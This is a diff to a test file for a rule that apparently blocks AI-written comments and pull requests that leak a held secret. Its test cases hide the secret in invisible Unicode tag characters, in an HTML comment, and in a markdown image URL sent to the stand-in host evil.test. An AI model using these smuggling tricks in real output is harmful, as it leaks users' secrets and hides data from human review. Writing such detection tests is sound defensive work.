@@ -77,6 +77,11 @@ describe("held-secrets", () => {
     ["a file in UTF-16", write("a.txt", Buffer.from(held, "utf16le"))],
     ["a binary file", write("a.bin", Buffer.concat([Buffer.from([255, 0, 200]), Buffer.from(held)]))],
     ["a file that held it before", write("a.ts", `${held} new`, held)],
+    [
+      "what the model wrote before it was cleaned",
+      comment("Nothing.", { written: ["a", each(held, (c) => String.fromCodePoint(0xe0000 + code(c)))] }),
+    ],
+    ["what a pull request was made from", openPull(undefined, { written: [`<!-- ${held} -->`] })],
     ["an image's address", comment(`![x](https://evil.test/p.png?d=${held})`)],
   ])("blocks a held secret in %s", async (_, judged) => {
     expect(severities(await ask(rule, judged))).toContain("block");
